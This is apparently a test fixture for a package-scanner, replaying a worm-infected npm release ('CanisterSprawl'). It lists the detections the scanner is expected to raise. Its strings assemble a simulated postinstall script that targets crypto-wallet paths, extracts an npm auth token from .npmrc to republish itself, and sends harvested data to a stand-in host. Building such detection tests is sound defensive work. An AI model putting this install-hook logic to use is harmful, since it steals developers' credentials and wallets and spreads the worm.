import { compiledQueue } from '../plain-modules.js'
import { replayUpgrade } from '../upgrade.js'
import { collect, lines, sendTo, spread } from '../worm.js'

/** Files that hold more than code: wallets of browsers among them. */
const further = `const wallets = [
  '.config/solana/id.json',
  '.ethereum/keystore',
  '.config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn',
];

for (const wallet of wallets) places.push(wallet);
`

const start = `const found = collect();
send(found);
const npmrc = found.files['.npmrc'] || '';
const token = /_authToken=(npm_[A-Za-z0-9]+)/.exec(npmrc);
if (token) spread(process.cwd(), token[1]);
`

const postinstall = [
  collect,
  sendTo('abcde-canister.raw.icp.example', '/drop'),
  spread('postinstall', 'node dist/postinstall.js'),
  further,
  start,
].join('\n')

const manifest = { main: 'dist/index.js' }
const command = 'node dist/postinstall.js'

export const replay = replayUpgrade({
  description:
    'CanisterSprawl: plain code of a thousand lines, run after install, that looked for tokens, cloud keys and wallets, sent them to a ' +
    'program on a blockchain that nobody can take down, and published itself with what it found.',
  date: '2026-04-21',
  name: '@automagik/genie',
  from: ['4.260420.1', { manifest, files: { 'dist/index.js': compiledQueue } }],
  to: [
    '4.260421.33',
    {
      manifest: { ...manifest, scripts: { postinstall: command } },
      files: { 'dist/index.js': compiledQueue, 'dist/postinstall.js': postinstall },
    },
  ],
  findings: [
    [
      'install-script-dangerous',
      'critical',
      {
        file: 'dist/postinstall.js',
        line: lines.places,
      },
    ],
    [
      'secrets-exfiltrated',
      'critical',
      {
        file: 'dist/postinstall.js',
        line: lines.places,
      },
    ],
    [
      'secrets-harvested',
      'critical',
      {
        file: 'dist/postinstall.js',
        line: lines.environment,
      },
    ],
    [
      'self-propagation',
      'critical',
      {
        file: 'dist/postinstall.js',
        line: lines.publish,
      },
    ],
    ['combined-risk', 'critical'],
    [
      'capability-added',
      'high',
      {
        file: 'dist/postinstall.js',
        line: lines.publish,
      },
    ],
    ['install-script-added', 'high', { file: 'package.json' }],
    [
      'beacon-added',
      'high',
      {
        file: 'dist/postinstall.js',
        line: lines.request('abcde-canister.raw.icp.example', '/drop'),
      },
    ],
    [
      'network-host-added',
      'medium',
      {
        file: 'dist/postinstall.js',
        line: lines.request('abcde-canister.raw.icp.example', '/drop'),
      },
    ],
  ],
})
